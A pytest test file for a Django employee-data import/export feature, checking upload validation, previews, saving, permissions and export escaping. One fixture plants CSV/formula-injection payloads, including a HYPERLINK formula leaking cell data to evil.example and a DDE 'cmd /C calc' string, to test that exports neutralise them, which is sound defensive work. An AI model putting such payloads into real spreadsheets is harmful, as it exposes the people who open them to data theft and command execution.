"""Import/export pages of pegawai: the generic import pages for the kind "pegawai" (upload →
preview with every row's errors → Simpan), the old address, template, exports and permissions."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django_scopes import scopes_disabled

from apps.core.models import AuditEvent
from apps.core.roles import Role
from apps.impor.models import ImportJob
from apps.pegawai.models import Pegawai
from tests.assertions import assert_absent
from tests.factories import PegawaiFactory
from tests.pegawai.test_import import NIP_BUDI, NIP_SITI, budi, budi_stored, csv_bytes, siti, xlsx_bytes

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return Path(settings.MEDIA_ROOT)


@pytest.fixture
def admin_a(login, admin_bkd_a, unit_tree_a):
    return login(admin_bkd_a)


def upload(client, data: bytes, name: str = "pegawai.xlsx"):
    return client.post("/impor/pegawai/", {"berkas": SimpleUploadedFile(name, data)})


def job_of(response) -> ImportJob:
    assert response.status_code == 302, response.content.decode()[:2000]
    job_uuid = response["Location"].rstrip("/").rsplit("/", 1)[-1]
    with scopes_disabled():
        return ImportJob.objects.get(uuid=job_uuid)


def stored_files(media: Path, instansi) -> list[Path]:
    directory = media / "impor" / str(instansi.pk)
    return sorted(directory.iterdir()) if directory.exists() else []


def test_old_address_and_menu_lead_to_the_upload_page(admin_a):
    response = admin_a.get("/pegawai/impor/")
    assert response.status_code == 302
    assert response["Location"] == "/impor/pegawai/"
    page = admin_a.get("/impor/pegawai/")
    assert page.status_code == 200
    html = page.content.decode()
    assert 'href="/impor/pegawai/"' in html  # the menu's "Impor/Ekspor"
    assert "Impor data pegawai" in html
    assert "Unduh templat (.xlsx)" in html and 'href="/impor/pegawai/template.xlsx"' in html
    assert 'enctype="multipart/form-data"' in html
    assert "/pegawai/ekspor.xlsx" in html and "/pegawai/ekspor.csv" in html
    assert "Sel kosong pada pegawai yang sudah terdaftar tidak mengubah data lama." in html
    assert "NIP *" in html and "Tanggal Lahir *" in html


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        (b"%PDF-1.7\n1 0 obj\n", "pegawai.xlsx", "isi berkas ini adalah PDF"),
        (b"", "pegawai.csv", "Berkas kosong"),
        (b"MZ\x90\x00" + b"\x00" * 60, "pegawai.csv", "program Windows"),
    ],
    ids=["pdf-renamed-xlsx", "empty", "exe"],
)
def test_unusable_upload_is_refused_on_the_form_and_not_kept(
    admin_a, instansi_a, media, data, name, expected
):
    response = upload(admin_a, data, name)
    assert response.status_code == 200
    assert expected in response.content.decode()
    assert stored_files(media, instansi_a) == []


def test_preview_lists_every_rows_errors_and_offers_no_save(admin_a, instansi_a, media):
    data = xlsx_bytes([budi(), siti(NIP=int(NIP_SITI)), budi(NIP="12345", **{"Kode Unit Kerja": "Z.99"})])
    job = job_of(upload(admin_a, data))
    response = admin_a.get(f"/impor/job/{job.uuid}/")
    assert response.status_code == 200
    html = response.content.decode()
    result = response.context["result"]
    assert (result.baris, result.baru, result.baris_galat) == (3, 1, 2)
    assert [(row, column) for row, column, _m in result.errors] == [
        (3, "NIP"),
        (4, "NIP"),
        (4, "Kode Unit Kerja"),
    ]
    assert "NIP tersimpan sebagai angka" in html
    assert "NIP harus 18 digit; yang diisi 5 digit." in html
    assert "Kode unit kerja “Z.99” tidak ada di instansi ini" in html
    assert "2 baris bermasalah" in html
    assert f"/impor/job/{job.uuid}/simpan/" not in html
    assert f"/impor/job/{job.uuid}/galat.xlsx" in html
    assert stored_files(media, instansi_a) == []  # nothing can be saved from it
    with scopes_disabled():
        assert not Pegawai.objects.filter(instansi=instansi_a).exists()


def test_preview_shows_the_changes_then_save_commits_the_stored_file(
    admin_a, instansi_a, media, django_capture_on_commit_callbacks
):
    existing = budi_stored(instansi_a, golongan="III/a")
    job = job_of(upload(admin_a, csv_bytes([budi(Golongan="III/b"), siti()], delimiter=";"), "pegawai.csv"))
    preview = admin_a.get(f"/impor/job/{job.uuid}/")
    html = preview.content.decode()
    assert f'action="/impor/job/{job.uuid}/simpan/"' in html
    result = preview.context["result"]
    assert (result.baru, result.diubah) == (1, 1)
    assert existing.nama_lengkap in html and "Golongan: III/a → III/b" in html
    with scopes_disabled():
        assert Pegawai.objects.filter(instansi=instansi_a).count() == 1  # the preview wrote nothing

    with django_capture_on_commit_callbacks(execute=True):
        response = admin_a.post(f"/impor/job/{job.uuid}/simpan/")
    assert response.status_code == 302
    assert response["Location"] == f"/impor/job/{job.uuid}/"
    with scopes_disabled():
        assert set(Pegawai.objects.filter(instansi=instansi_a).values_list("nip", flat=True)) == {
            NIP_BUDI,
            NIP_SITI,
        }
        summary = AuditEvent.objects.get(instansi=instansi_a, action="pegawai.import")
        assert summary.new_values["berkas"] == "pegawai.csv"
        assert summary.new_values["tidak_berubah"] == 0
        assert summary.ip_address == "127.0.0.1"
    assert stored_files(media, instansi_a) == []
    page = admin_a.get(f"/impor/job/{job.uuid}/").content.decode()
    assert "Impor pegawai.csv tersimpan: 1 baru, 1 diubah, 0 tidak berubah" in page
    # a second Simpan is refused and changes nothing
    again = admin_a.post(f"/impor/job/{job.uuid}/simpan/", follow=True)
    assert "Impor ini sudah disimpan atau sedang disimpan." in assert_absent(again, "Traceback")
    with scopes_disabled():
        assert AuditEvent.objects.filter(instansi=instansi_a, action="pegawai.import").count() == 1
        assert Pegawai.objects.filter(instansi=instansi_a).count() == 2


def test_save_validates_again_and_writes_nothing_when_data_changed(admin_a, instansi_a, unit_tree_a):
    job = job_of(upload(admin_a, csv_bytes([budi(), siti()]), "pegawai.csv"))
    # Between preview and Simpan the unit Budi is placed in is deactivated.
    with scopes_disabled():
        dinas = unit_tree_a[0]
        dinas.aktif = False
        dinas.save()
    admin_a.post(f"/impor/job/{job.uuid}/simpan/")
    response = admin_a.get(f"/impor/job/{job.uuid}/")
    html = response.content.decode()
    assert "Tidak disimpan" in html
    assert "sudah tidak aktif" in html
    with scopes_disabled():
        assert not Pegawai.objects.filter(instansi=instansi_a).exists()
        assert not AuditEvent.objects.filter(instansi=instansi_a, action__startswith="pegawai.").exists()


IMPORT_URLS = [
    ("get", "/pegawai/impor/"),
    ("get", "/impor/pegawai/"),
    ("post", "/impor/pegawai/"),
    ("get", "/impor/pegawai/template.xlsx"),
    ("get", "/pegawai/ekspor.xlsx"),
    ("get", "/pegawai/ekspor.csv"),
    ("get", "/impor/job/{job}/"),
    ("get", "/impor/job/{job}/status.json"),
    ("post", "/impor/job/{job}/simpan/"),
    ("get", "/impor/job/{job}/galat.xlsx"),
]


@pytest.mark.parametrize("role", [Role.VERIFIKATOR, Role.PPK, Role.KOMITE_KETUA, Role.ASN])
def test_other_roles_get_403(client, login, make_user, admin_bkd_a, instansi_a, unit_tree_a, role):
    login(admin_bkd_a)
    job = job_of(upload(client, csv_bytes([budi()]), "pegawai.csv"))
    login(make_user(role, instansi_a, username=f"lain.{role.value}"))
    for method, url in IMPORT_URLS:
        response = getattr(client, method)(url.format(job=job.uuid))
        assert response.status_code == 403, (role, url)
    with scopes_disabled():
        assert not Pegawai.objects.exists()


def test_anonymous_is_sent_to_login(client):
    for url in ("/pegawai/impor/", "/impor/pegawai/"):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/masuk/")


def test_template_has_indonesian_headers_and_the_reference_sheet(admin_a, instansi_a, admin_bkd_b, unit_b):
    response = admin_a.get("/impor/pegawai/template.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="templat-impor-pegawai-6201.xlsx"' in response["Content-Disposition"]
    assert response["Cache-Control"] == "private, no-store"
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Pegawai", "Referensi", "Petunjuk"]
    headers = [c.value for c in workbook["Pegawai"][1]]
    assert headers[:3] == ["NIP", "Gelar Depan", "Nama"]
    assert "Tanggal Lahir" in headers and "Kode Unit Kerja" in headers and "Status Kepegawaian" in headers
    assert workbook["Pegawai"].max_row == 1  # no sample row that could be imported by accident
    referensi = {
        col[0].value: [c.value for c in col[1:] if c.value is not None]
        for col in workbook["Referensi"].columns
    }
    assert referensi["Status Kepegawaian"] == ["PNS", "CPNS", "PPPK", "PPPK Paruh Waktu"]
    assert referensi["Jenis Kelamin"] == ["Laki-laki", "Perempuan"]
    assert referensi["Golongan"][:2] == ["I/a", "I/b"] and "IV/e" in referensi["Golongan"]
    assert "XVII" in referensi["Golongan"]
    assert "JPT Pratama" in referensi["Jenis Jabatan"]
    assert "Ahli Muda" in referensi["Jenjang Fungsional"]
    assert "S-1" in referensi["Pendidikan Terakhir"]
    assert referensi["Kode Unit Kerja"] == ["A.01", "A.01.01", "A.01.01.01"]  # A's units only, not B.01
    assert "Dinas Pendidikan" in referensi["Nama Unit Kerja"]
    validations = workbook["Pegawai"].data_validations.dataValidation
    assert any("Referensi!" in v.formula1 for v in validations)
    for sheet in workbook.worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_filled_template_imports(admin_a, instansi_a):
    workbook = openpyxl.load_workbook(io.BytesIO(admin_a.get("/impor/pegawai/template.xlsx").content))
    sheet = workbook["Pegawai"]
    headers = [c.value for c in sheet[1]]
    sheet.append([budi().get(h) for h in headers])
    buffer = io.BytesIO()
    workbook.save(buffer)
    job = job_of(upload(admin_a, buffer.getvalue()))
    assert admin_a.get(f"/impor/job/{job.uuid}/").context["result"].baru == 1


@pytest.fixture
def pegawai_a_and_b(instansi_a, instansi_b):
    with scopes_disabled():
        tricky = PegawaiFactory(
            instansi=instansi_a,
            nama='=HYPERLINK("http://evil.example/?x="&A1,"klik")',
            alamat="+1+cmd|' /C calc'!A0\n@SUM(1)",
            telepon="-2+3",
            gelar_depan="\t=1",
        )
        plain = PegawaiFactory(instansi=instansi_a, nama="Budi Santoso", tanggal_lahir=dt.date(1986, 9, 26))
        foreign = PegawaiFactory(instansi=instansi_b, nama="Pegawai Instansi B")
    return tricky, plain, foreign


def test_xlsx_export_is_escaped_and_only_the_own_instansi(admin_a, pegawai_a_and_b):
    tricky, plain, _foreign = pegawai_a_and_b
    response = admin_a.get("/pegawai/ekspor.xlsx")
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook["Pegawai"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    names = [row[2] for row in rows]
    assert "Pegawai Instansi B" not in names
    assert "Budi Santoso" in names
    assert "'" + tricky.nama in names
    by_nip = {row[0]: row for row in rows}
    assert by_nip[plain.nip][5] == "26-09-1986"  # dates as DD-MM-YYYY text, not localised
    assert by_nip[tricky.nip][1] == "'\t=1"
    assert by_nip[tricky.nip][17] == "'-2+3"
    assert by_nip[tricky.nip][18] == "'+1+cmd|' /C calc'!A0\n'@SUM(1)"
    assert all(isinstance(value, str) for value in by_nip[plain.nip] if value is not None)


def test_csv_export_is_escaped_and_only_the_own_instansi(admin_a, pegawai_a_and_b):
    tricky, plain, _foreign = pegawai_a_and_b
    response = admin_a.get("/pegawai/ekspor.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[0][:3] == ["NIP", "Gelar Depan", "Nama"]
    by_nip = {row[0]: row for row in rows[1:]}
    assert set(by_nip) == {tricky.nip, plain.nip}
    assert by_nip[tricky.nip][2] == "'" + tricky.nama
    assert by_nip[tricky.nip][17] == "'-2+3"
    assert by_nip[tricky.nip][18] == "'+1+cmd|' /C calc'!A0\n'@SUM(1)"
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for value in row:
            for line in value.split("\n"):
                assert not line.lstrip().startswith(dangerous), value
